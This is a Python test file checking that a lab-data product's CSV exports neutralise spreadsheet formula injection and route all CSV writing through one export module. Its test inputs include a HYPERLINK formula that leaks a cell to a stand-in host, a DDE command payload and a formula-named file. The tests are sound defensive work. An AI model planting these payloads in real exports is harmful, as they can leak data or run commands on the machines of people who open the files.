"""One CSV writer for every CSV the product writes, formulas neutralised (issue 14, point 8)."""

from __future__ import annotations

import ast
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from data.export import csv_bytes, csv_text, neutralise, write_csv
from labtrend.cli import main as cli_main

ROOT = Path(__file__).resolve().parent.parent
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_every_formula_trigger_is_neutralised(cell):
    assert neutralise(cell) == "'" + cell
    text = csv_text(pd.DataFrame({"comment": [cell], cell: [1]}))
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert back["comment"][0] == "'" + cell and back.columns[1] == "'" + cell


def test_numbers_and_plain_text_stay_as_they_are():
    df = pd.DataFrame({"value": [-3.5, 4.0], "value_text": ["-3", "+1.5e-2"], "name": ["Base excess", "a=b"]})
    back = pd.read_csv(io.StringIO(csv_text(df)), dtype=str)
    assert back.to_dict("list") == {"value": ["-3.5", "4.0"], "value_text": ["-3", "+1.5e-2"],
                                    "name": ["Base excess", "a=b"]}


def _import_attack(tmp_path, capsys) -> Path:
    db = tmp_path / "db.duckdb"
    f = tmp_path / "=cmd.csv"
    f.write_text("patient_id,collected_at,loinc,test_name,value,unit,comment\n"
                 'P1,2024-01-01 08:00,2823-3,"=HYPERLINK(""http://evil.example"",""x"")",=1+1,mmol/L,@SUM(A1)\n'
                 "P1,2024-01-02 08:00,2823-3,Potassium,4.2,mmol/L,+cmd\n", encoding="utf-8")
    assert cli_main(["import", str(f), "--db", str(db)]) == 0
    capsys.readouterr()
    return db


def test_cli_timeline_patients_and_batches_csv_are_neutralised(tmp_path, capsys):
    db = _import_attack(tmp_path, capsys)
    assert cli_main(["timeline", "--patient", "P1", "--db", str(db), "--format", "csv"]) == 0
    tl = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    assert tl["analyte_name"][0] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert (tl["value_text"][0], tl["comment"][0], tl["comment"][1]) == ("'=1+1", "'@SUM(A1)", "'+cmd")
    assert cli_main(["batches", "--db", str(db), "--format", "csv"]) == 0
    assert pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)["file_name"][0] == "'=cmd.csv"
    assert cli_main(["patients", "--db", str(db), "--format", "csv"]) == 0
    assert "P1" in capsys.readouterr().out
    assert cli_main(["timeline", "--patient", "P1", "--db", str(db), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["value_text"] == "=1+1"  # JSON is data: kept as given


def test_write_csv_to_files_and_gzip(tmp_path):
    df = pd.DataFrame({"a": ["=1"], "b": [1.5]})
    write_csv(df, tmp_path / "sub" / "x.csv")
    write_csv(df, tmp_path / "x.csv.gz", compression="gzip")
    assert (tmp_path / "sub" / "x.csv").read_text().splitlines()[1] == "'=1,1.5"
    assert pd.read_csv(tmp_path / "x.csv.gz")["a"][0] == "'=1"
    assert csv_bytes(df).decode("utf-8").splitlines()[1] == "'=1,1.5"


# -- one writer: the source tree has no other ---------------------------------------------------
def _product_files():
    for folder in ("data", "labtrend", "dashboard", "clinical", "model"):
        yield from (ROOT / folder).rglob("*.py")
    yield ROOT / "train.py"


def test_no_other_csv_writer_in_the_product():
    offenders = []
    for path in _product_files():
        if path == ROOT / "data" / "export.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                name = node.func.attr
                owner = node.func.value.id if isinstance(node.func.value, ast.Name) else None
                if name == "to_csv" or (owner == "csv" and name in ("writer", "DictWriter")):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    assert offenders == [], "CSV written outside data.export: " + ", ".join(offenders)


def test_every_dashboard_download_button_uses_the_export_function():
    buttons = []
    for path in (ROOT / "dashboard").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "download_button":
                data = node.args[1] if len(node.args) > 1 else next(k.value for k in node.keywords if k.arg == "data")
                if isinstance(data, ast.Lambda):  # written when clicked: the lambda's body is what is downloaded
                    data = data.body
                ok = isinstance(data, ast.Call) and getattr(data.func, "id", getattr(data.func, "attr", "")) == "csv_bytes"
                buttons.append((str(path.relative_to(ROOT)), node.lineno, ok))
    assert {b[0] for b in buttons} >= {"dashboard/app_pages/upload.py", "dashboard/app_pages/audit.py",
                                        "dashboard/app_pages/codes.py"}
    assert all(ok for *_, ok in buttons), buttons
